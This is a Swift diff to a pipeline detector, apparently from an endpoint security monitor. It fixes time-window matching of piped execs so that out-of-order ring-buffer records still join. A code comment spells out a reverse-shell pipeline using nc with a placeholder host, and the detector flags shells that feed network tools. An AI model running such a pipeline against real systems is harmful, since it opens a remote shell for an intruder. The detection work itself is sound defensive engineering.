@@ -98,17 +98,22 @@ public struct PipelineDetector: Sendable {
         return name
     }
 
+    /// Whether two execs are within `window` of each other, in either order: the ends of a
+    /// pipeline exec at the same moment on different CPUs, and the ring buffer can hand over
+    /// the later one's record first (a one-sided difference wrapped and lost the join).
+    private func near(_ a: UInt64, _ b: UInt64) -> Bool { (a > b ? a - b : b - a) <= window }
+
     /// Looks at one exec; returns the pipeline it completes, if any.
     public mutating func observe(_ p: ProcessEntry, stdinPipe: UInt64, stdoutPipe: UInt64, timeNs: UInt64) -> Match? {
         let name = String(Self.base(p.binary))
         if stdoutPipe != 0, let kind = Self.sourceKind(name) {
-            if let r = readers.removeValue(forKey: stdoutPipe), timeNs &- r.timeNs <= window {
+            if let r = readers.removeValue(forKey: stdoutPipe), near(timeNs, r.timeNs) {
                 return Match(source: p, shell: r.process, pipe: stdoutPipe, kind: kind)
             }
             Self.insert(&writers, stdoutPipe, End(process: p, timeNs: timeNs))
         }
         if stdinPipe != 0, Self.shells.contains(name) {
-            if let w = writers.removeValue(forKey: stdinPipe), timeNs &- w.timeNs <= window,
+            if let w = writers.removeValue(forKey: stdinPipe), near(timeNs, w.timeNs),
                 let kind = Self.sourceKind(String(Self.base(w.process.binary)))
             {
                 return Match(source: w.process, shell: p, pipe: stdinPipe, kind: kind)
@@ -118,13 +123,13 @@ public struct PipelineDetector: Sendable {
         // `cat f | sh -i | nc HOST PORT > f`: a shell whose input is a pipe writes into a network
         // tool (`report.sh | nc` from a terminal or cron has no pipe on its input)
         if stdinPipe != 0, stdoutPipe != 0, Self.shellsOnly.contains(name) {
-            if let r = networkReaders.removeValue(forKey: stdoutPipe), timeNs &- r.timeNs <= window {
+            if let r = networkReaders.removeValue(forKey: stdoutPipe), near(timeNs, r.timeNs) {
                 return Match(source: r.process, shell: p, pipe: stdoutPipe, kind: .shellToNetwork)
             }
             Self.insert(&shellWriters, stdoutPipe, End(process: p, timeNs: timeNs))
         }
         if stdinPipe != 0, Self.networkTools.contains(name) {
-            if let w = shellWriters.removeValue(forKey: stdinPipe), timeNs &- w.timeNs <= window {
+            if let w = shellWriters.removeValue(forKey: stdinPipe), near(timeNs, w.timeNs) {
                 return Match(source: p, shell: w.process, pipe: stdinPipe, kind: .shellToNetwork)
             }
             Self.insert(&networkReaders, stdinPipe, End(process: p, timeNs: timeNs))
